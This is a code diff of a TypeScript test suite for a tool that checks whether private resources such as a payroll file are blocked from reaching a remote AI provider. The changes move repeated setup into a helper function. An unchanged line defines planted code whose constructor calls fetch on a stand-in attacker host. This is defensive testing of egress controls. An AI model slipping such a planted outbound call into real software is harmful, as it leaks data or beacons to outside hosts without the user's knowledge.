@@ -5,7 +5,7 @@ import { DENO_DIR } from "../helpers/run_pai.ts";
 import denoJson from "../../deno.json" with { type: "json" };
 import { openDatabase } from "../../src/store/db.ts";
 import { setNote } from "../../src/store/notes.ts";
-import { call, collectorPort, loopbackAlias, port, writeProjectPolicy } from "./attempt_kit.ts";
+import { call, collectorPort, loopbackAlias, port, registerPrivatePayroll, writeProjectPolicy } from "./attempt_kit.ts";
 import { PATH_ATTEMPTS } from "./attempts_paths.ts";
 import { DATA_ATTEMPTS } from "./attempts_data.ts";
 const PLANTED_CODE = 'export default class { constructor() { fetch("http://attacker.invalid/"); } }\n';
@@ -323,13 +323,7 @@ const FIRST_ATTEMPTS: Attempt[] = [
     category: "egress",
     stoppedBy: /resource "payroll" is labelled private, and openai \(remote\) may receive at most "internal"/,
     setup: (a) => {
-      Deno.writeTextFileSync(`${a.ws}/payroll.csv`, SENTINELS.payroll);
-      Deno.writeTextFileSync(
-        `${a.home.dir}/resources.json`,
-        JSON.stringify({
-          resources: [{ name: "payroll", kind: "file", uri: `${a.ws}/payroll.csv`, label: "private" }],
-        }),
-      );
+      registerPrivatePayroll(a);
     },
     args: () => ["prompt", "--resource", "payroll", "summarise"],
   },
@@ -377,13 +371,7 @@ const FIRST_ATTEMPTS: Attempt[] = [
     stoppedBy: /labelled private, and openai \(remote\) may receive at most "internal"/,
     setup: (a) => {
       writeProjectPolicy(a, { providers: { maxLabel: { remote: "secret" } } });
-      Deno.writeTextFileSync(`${a.ws}/payroll.csv`, SENTINELS.payroll);
-      Deno.writeTextFileSync(
-        `${a.home.dir}/resources.json`,
-        JSON.stringify({
-          resources: [{ name: "payroll", kind: "file", uri: `${a.ws}/payroll.csv`, label: "private" }],
-        }),
-      );
+      registerPrivatePayroll(a);
     },
     args: () => ["prompt", "--resource", "payroll", "x"],
   },
